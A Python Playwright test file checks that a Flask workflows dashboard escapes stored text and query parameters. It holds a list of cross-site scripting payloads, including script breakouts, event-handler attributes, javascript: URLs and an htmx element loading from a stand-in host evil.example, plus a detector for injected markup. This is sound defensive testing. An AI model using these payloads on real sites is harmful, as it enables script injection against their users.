"""What others wrote is shown, and never done: every stored text is markup and script, on every page."""

from __future__ import annotations

import json
from collections.abc import Callable
from collections.abc import Mapping
from typing import Any
from urllib.parse import quote

import pytest
import sqlalchemy as sa
from flask import Flask
from playwright.sync_api import expect

from flask_workflows import models
from flask_workflows import Workflows
from tests import apps
from tests.browser.site import Site
from tests.browser.site import Tab
from tests.browser.site import Visitors
from tests.everything import find_addresses
from tests.everything import populate
from tests.rows import NOW_MS
from tests.rows import rows_of

EVILS = (
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "</textarea></title><svg onload=alert(1)>",
    "\"' onmouseover=alert(1) autofocus onfocus=alert(1) x='",
    "<a href=javascript:alert(1)>x</a>",
    "<div hx-get=//evil.example/ hx-trigger=load>x</div>",
    "<b hx-on:load=alert(1) data-live=1 id=main>x</b>",
    "javascript:alert(1)",
    "{{7*7}}${7*7}",
    "\u202ereversed\u200b",
)

#: What is no text of anybody's: ids, and the words the code goes by.
KEPT = {
    "workflow_runs": {"id", "status", "worker", "cause"},
    "workflow_steps": {"run_id", "kind", "status"},
    "workflow_workers": {"id"},
    "workflow_events": {"run_id"},
    "workflow_waits": {"run_id", "fields", "values_hash", "snapshot"},
    "workflow_state": {"run_id"},
    "workflow_audit": {"id", "run_id", "operation"},
    "workflow_marks": {"name"},
    "workflow_stats": {"outcome"},
}

#: What is JSON, and how it holds a text.
AS_JSON: Mapping[str, Callable[[str], Any]] = {
    "input": lambda text: {text: [text, {text: text}]},
    "output": lambda text: [text, {text: text}],
    "value": lambda text: {"done": 1, "total": 2, "note": text},
    "payload": lambda text: {text: text},
    "error": lambda text: _error(text),
    "earlier": lambda text: [[NOW_MS - 5_000, NOW_MS - 4_000, _error(text)]],
    "queues": lambda text: [text],
    "workflows": lambda text: [[text, 1, 1]],
}

#: Elements and attributes that only the texts could have brought.
_BROUGHT = r"""() => [...document.querySelectorAll("*")].filter((element) =>
  element.matches("img, iframe, object, embed, script:not([src]), style, b[id=main], [data-live='1']")
  || [...element.attributes].some(({ name, value }) => name.startsWith("on") || name.startsWith("hx-on")
    || ["href", "src", "action", "formaction"].includes(name) && /^\s*javascript:/i.test(value))
  ).map((element) => element.outerHTML.slice(0, 200))"""


def _error(text: str) -> dict[str, Any]:
    trace = f'{text}\n  File "{text}", line 1, in {text}\n    {text}\n{text}'
    return {"kind": "step", "type": text, "message": text, "traceback": trace, "step": text}


def spoil(engine: sa.Engine) -> None:
    """Write them into every text there is."""
    number = 0
    with engine.begin() as connection:
        for table in models.metadata.sorted_tables:
            rows = [dict(row) for row in connection.execute(sa.select(table)).mappings()]
            connection.execute(table.delete())
            for row in rows:
                for column in table.columns:
                    if isinstance(column.type, sa.String) and column.name not in KEPT[table.name]:
                        number += 1
                        row[column.name] = _spoiled(column, row[column.name], number)
                connection.execute(table.insert(), row)


def _spoiled(column: sa.Column[Any], value: str | None, number: int) -> str | None:
    text = EVILS[number % len(EVILS)]
    if value is None or (column.name == "key" and value.startswith("$")):
        return value
    if column.name in AS_JSON:
        return json.dumps(AS_JSON[column.name](text))
    # Where texts must differ, by their end.
    limit = column.type.length or 1_000  # type: ignore[attr-defined]
    return f"{text} {number}" if len(text) + 6 <= limit else text[:limit]


@pytest.fixture
def app(url: str, make_app: apps.MakeApp, workflows: Workflows) -> Flask:
    for evil in EVILS:
        workflows.event(evil)
    workflows.actor(lambda: EVILS[0])
    return make_app(url, workflows=workflows, WORKFLOWS_ENV_NAME=EVILS[0])


@pytest.fixture
def runs(app: Flask, workflows: Workflows) -> dict[str, str]:
    runs = populate(app, workflows)
    spoil(rows_of(app).engine)
    return runs


def check(tab: Tab, address: str) -> None:
    assert tab.page.evaluate(_BROUGHT) == [], address
    assert tab.faults == [], address


def test_b109_nothing_that_is_stored_is_executed(
    app: Flask, runs: Mapping[str, str], serve: Callable[[Flask], Site], visitors: Visitors
) -> None:
    tab = visitors.tab(serve(app))
    found = find_addresses(app, runs)
    found.pop("", None)
    shown = ""

    for endpoint, addresses in found.items():
        if endpoint in ("asset", "value", "step_value"):
            continue
        for address in addresses:
            page = tab.go(address)
            check(tab, address)
            shown += page.locator("body").inner_text()
            live = page.locator("[hx-get]")
            if live.count() and address == addresses[0]:
                # Swapped in once more, as if something had changed.
                live.first.evaluate("part => part.setAttribute('hx-headers', '{}')")
                with page.expect_response(lambda response: "hx-request" in response.request.headers):
                    live.first.evaluate("part => htmx.trigger(part, 'fw:poll')")
                expect(page.locator(".htmx-request, .htmx-swapping, .htmx-settling")).to_have_count(0)
                check(tab, address)

    for evil in EVILS:
        assert evil in shown, "it is on no page, so nothing was tried"


@pytest.mark.parametrize("evil", EVILS)
def test_b109_nothing_that_is_asked_for_is_executed(
    app: Flask, serve: Callable[[Flask], Site], visitors: Visitors, evil: str
) -> None:
    tab = visitors.tab(serve(app))

    for path in (
        "runs?q=",
        "runs?workflow=",
        "runs?queue=",
        "runs?key=",
        "waits?name=",
        "events?name=",
        "audit?actor=",
    ):
        address = f"/workflows/{path}{quote(evil)}"
        response = tab.page.goto(tab.origin + address)
        assert response is not None
        assert response.status in (200, 422), address
        check(tab, address)
    for path in ("run/", "registry/"):
        tab.go(f"/workflows/{path}{quote(evil, safe='')}", 404)
        check(tab, path)
